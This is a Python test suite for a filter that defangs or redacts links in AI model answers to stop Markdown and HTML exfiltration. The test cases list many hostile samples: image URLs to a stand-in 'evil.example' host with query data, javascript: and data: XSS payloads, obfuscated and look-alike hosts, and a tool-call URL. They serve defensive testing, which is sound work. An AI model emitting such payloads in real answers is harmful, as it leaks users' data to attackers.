"""Where an answer leads. The attacks are those of public reports on exfiltration through Markdown and HTML."""

from __future__ import annotations

import subprocess
import sys
from typing import Any

import pytest

from shared.guards.addresses import Hosts, named, read_address
from shared.guards.pipeline import Pipeline
from shared.guards.port import Background
from shared.policy.types import Guards, LinksRule, MarkupRule
from shared.text.markdown_code import IN_DOUBT, MOST_LINE, START, Blocks, code_in
from tests.support.chats import answer, chat, tool


def passed(text: str, background: Background | None = None, **rule: Any) -> tuple[str | None, list[str]]:
    rule = {"hosts": ["good.example", "*.ok.example"], **rule}
    pipeline = Pipeline(Guards(links=LinksRule(**rule), markup=MarkupRule(mode="off")))
    inspection = pipeline.inspect_answer(answer(text), chat("x"), background)
    assert not inspection.faults
    kinds = [finding.kind for finding in inspection.findings if finding.guard == "links"]
    return inspection.completion.choices[0].message.content, kinds


@pytest.mark.parametrize(
    "text",
    [
        "Nothing to see here: 10:30, and/or, C:\\x, // a comment, a<b, f(x)[i](j).",
        "See https://good.example/a?b=c#d, https://a.b.ok.example. Or <https://good.example>!",
        "https://GOOD.example:8443 and http://good.example./x",
        "![x](https://good.example/x.png 'title') [y](/path) [z](#a) [q](?u=1) [m](mailto:a@b.example)",
        "[1]: https://good.example\n[2]: <relative path>",
        "<img src='https://good.example/x' srcset='/a 1x, //good.example/b 2x' style='color:red'>",
        "`![x](https://evil.example)` and\n\n```html\n<img src=//evil.example>\n\n![x](//evil.example)\n```\nend",
        "1. do\n   ```\n   curl https://evil.example\n   ```\n",
    ],
)
def test_what_leads_where_it_may_goes_on(text: str) -> None:
    assert passed(text) == (text, [])


@pytest.mark.parametrize(
    ("text", "becomes", "kind"),
    [
        ("![x](https://evil.example/?q=s)", "![x](hxxps://evil[.]example/?q=s)", "foreign_image"),
        ("[x](http://evil.example)", "[x](hxxp://evil[.]example)", "foreign_link"),
        ("é é http://evil.example ü", "é é hxxp://evil[.]example ü", "foreign_link"),
        ("see https://evil.example, now", "see hxxps://evil[.]example, now", "foreign_link"),
        ("<https://evil.example/a>", "<hxxps://evil[.]example/a>", "foreign_link"),
        ("www.evil.example", "hxxps://www[.]evil[.]example", "foreign_link"),
        ("![x][1]\n\n[1]: https://evil.example/a", "![x][1]\n\n[1]: hxxps://evil[.]example/a", "foreign_image"),
        ("[1]:\n  //evil.example", "[1]:\n  hxxps://evil[.]example", "foreign_image"),
        ("[x](//evil.example)", "[x](hxxps://evil[.]example)", "foreign_link"),
        ("[x](/\\evil.example)", "[x](hxxps://evil[.]example)", "foreign_link"),
        ("[x](https:evil.example)", "[x](hxxps://evil[.]example)", "foreign_link"),
        ("http:\\\\evil.example", "[FILTERED]", "foreign_link"),
        ("[x](<//evil.example/a b>)", "[x](<hxxps://evil[.]example/a b>)", "foreign_link"),
        ("[x](https&#58;//evil.example)", "[x]([FILTERED])", "foreign_link"),
        ("[x](ht&#x74;ps&colon;&sol;&sol;evil.example)", "[x]([FILTERED])", "foreign_link"),
        ("[x](https\\://evil.example)", "[x]([FILTERED])", "foreign_link"),
        ("https://evil.good.example", "hxxps://evil[.]good[.]example", "foreign_link"),
        ("https://good.example.evil.example", "hxxps://good[.]example[.]evil[.]example", "foreign_link"),
        ("https://ok.example", "hxxps://ok[.]example", "foreign_link"),
        ("https://good.example@evil.example", "[FILTERED]", "disguised_link"),
        ("https://good.example\\@evil.example", "[FILTERED]\\@evil.example", "disguised_link"),
        ("https://g%6fod.example", "[FILTERED]", "foreign_link"),
        ("https://gооd.example/x", "hxxps://gооd.example/x", "foreign_link"),  # two Cyrillic letters
        ("https://good。example", "hxxps://good。example", "foreign_link"),
        ("https://xn--gd-jbba.example", "hxxps://xn--gd-jbba[.]example", "foreign_link"),
        ("https://[::1]/x", "[FILTERED]/x", "foreign_link"),
        ("[x](javascript:alert(1))", "[x]([FILTERED]alert(1))", "unsafe_scheme"),
        ("[x](jAvA&#115;cript:alert(1))", "[x]([FILTERED])", "unsafe_scheme"),
        ("[x](data:text/html;base64,PHNj)", "[x]([FILTERED]text/html;base64,PHNj)", "unsafe_scheme"),
        ("<javascript:alert(1)>", "<[FILTERED]alert(1)>", "unsafe_scheme"),
        ("<a href=' java&Tab;script:alert(1)'>x</a>", "[FILTERED]x</a>", "unsafe_scheme"),
        ("<img src=//evil.example/a>", "<img src=hxxps://evil[.]example/a>", "foreign_image"),
        ("<img src='h&#9;ttps://evil.example'>", "[FILTERED]", "foreign_image"),
        ("<img srcset='a 1x, //evil.example 2x'>", "<img srcset='a 1x, hxxps://evil[.]example 2x'>", "foreign_image"),
        ("<p style='b:url(//evil.example)'>", "<p style='b:url(hxxps://evil[.]example)'>", "foreign_image"),
        ("<meta content='0;url=//evil.example'>", "<meta content='0;url=hxxps://evil[.]example'>", "foreign_image"),
        ("<style>@import '//evil.example'", "<style>@import 'hxxps://evil[.]example'", "foreign_link"),
        ("<base href=//evil.example>", "<base href=hxxps://evil[.]example>", "foreign_link"),
        ("<img src=//evil.example", "<img src=hxxps://evil[.]example", "foreign_image"),
        ("- ```\n  a\n  ```\n![x](//evil.example)", "- ```\n  a\n  ```\n![x](hxxps://evil[.]example)", "foreign_image"),
    ],
)  # fmt: skip
def test_what_leads_elsewhere_leads_nowhere(text: str, becomes: str, kind: str) -> None:
    content, kinds = passed(text)
    assert (content, set(kinds)) == (becomes, {kind})
    assert passed(becomes)[1] == [], "what was made harmless is"


def test_a_host_that_trusted_input_names_goes_through() -> None:
    text, system = "https://docs.example/a", "Send people to docs.example."
    request = chat(messages=[{"role": "system", "content": system}, {"role": "user", "content": "x"}])
    assert passed(text, Background(chat("x"), system_prompt=system)) == (text, [])
    assert passed(text, Background(request))[1] == ["foreign_link"]
    assert passed(text, Background(request), trust=["system"]) == (text, [])
    assert passed(text, Background(chat("what is HTTPS://docs.example/?")), trust=["system"])[1] == ["foreign_link"]
    assert passed(text, Background(chat("what is HTTPS://docs.example/?")), trust=["user"]) == (text, [])


def test_tool_results_and_earlier_answers_are_never_trusted() -> None:
    call = {"id": "1", "type": "function", "function": {"name": "f", "arguments": "{}"}}
    request = chat(
        messages=[
            {"role": "user", "content": "x"},
            {"role": "assistant", "content": "docs.example", "tool_calls": [call]},
            {"role": "tool", "content": "docs.example", "tool_call_id": "1"},
        ]
    )
    assert passed("https://docs.example", Background(request), trust=["system", "user"])[1] == ["foreign_link"]


def test_what_needs_a_click_may_be_left_alone() -> None:
    text = "[a](https://evil.example) ![a](https://evil.example)"
    content, kinds = passed(text, clickable="flag")
    assert content == "[a](https://evil.example) ![a](hxxps://evil[.]example)"
    assert kinds == ["foreign_link", "foreign_image"]


def test_code_is_judged_where_the_policy_says_so() -> None:
    assert passed("`https://evil.example`", in_code=True)[0] == "`hxxps://evil[.]example`"


@pytest.mark.parametrize(("acted_on", "verdict"), [(False, "flag"), (True, "redact")])
def test_links_in_tool_arguments(acted_on: bool, verdict: str) -> None:
    pipeline = Pipeline(Guards(links=LinksRule(tool_arguments=acted_on)))
    request = chat("x", tools=[tool("get")])
    made = answer(None, calls=[("get", '{"url": "https:\\/\\/evil.example/a"}')])
    inspection = pipeline.inspect_answer(made, request)
    assert inspection.verdict == verdict
    (call,) = inspection.completion.choices[0].message.tool_calls or ()
    changed = '{"url": "[FILTERED]/a"}' if acted_on else '{"url": "https:\\/\\/evil.example/a"}'
    assert call.function.arguments == changed


def test_a_plain_answer_loads_no_parser() -> None:
    program = """
import sys
from shared.guards.pipeline import Pipeline
from shared.policy.types import Guards
from tests.support.chats import answer, chat
pipeline = Pipeline(Guards())
pipeline.inspect_answer(answer("A plain answer: 1 > 0, **bold**, `code`, [x] done.\\n\\n- a\\n"), chat("x"))
assert not {"markdown_it", "nh3"} & sys.modules.keys()
pipeline.inspect_answer(answer("[a](//b.example) <b c=d>"), chat("x"))
assert {"markdown_it", "nh3"} <= sys.modules.keys()
"""
    subprocess.run([sys.executable, "-c", program], check=True)


# --- addresses and code ---------------------------------------------------------------------------


def test_hosts_are_exact_or_under_a_domain() -> None:
    hosts = Hosts(["A.example", "*.b.example"])
    assert [hosts.hold(host) for host in ("a.example", "x.b.example", "b.example", "xb.example", "")] == [
        *(True, True, False, False, False)
    ]


@pytest.mark.parametrize(
    ("text", "whole"),
    [
        ("go to a.example.", True),
        ("https://a.example/x", True),
        ("a.example", True),
        ("xa.example", False),
        ("x.a.example", False),
        ("a.example.org", False),
        ("a.example-b", False),
        ("me@a.example", False),
        ("x.a.example and a.example", True),
        ("a.example...", True),
        ("..a.example", False),
    ],
)
def test_a_host_is_named_whole(text: str, whole: bool) -> None:
    assert ("a.example" in named(text)) is whole
    assert "" not in named("a b")


def test_addresses_never_raise() -> None:
    for written in ("", ":", "//", "https://", "http:/\\/", "\x00", "a" * 5000, "https://:80", "//@"):
        assert read_address(written).host in ("", ":80", "")


def test_code_that_is_certain() -> None:
    text = "a `b` c\n```\nd\n```\n`e`"
    code = code_in(text)
    assert [text[start:end] for start, end in code.ranges] == ["`b`", "d\n", "`e`"]
    assert (code.holds(2), code.holds(0), code.after) == (True, False, START)
    assert code_in("```\nx\n").after == Blocks(fence=3)
    assert code_in("> ```\n").after == IN_DOUBT
    assert code_in("x" * (MOST_LINE + 1) + "\n").after == IN_DOUBT
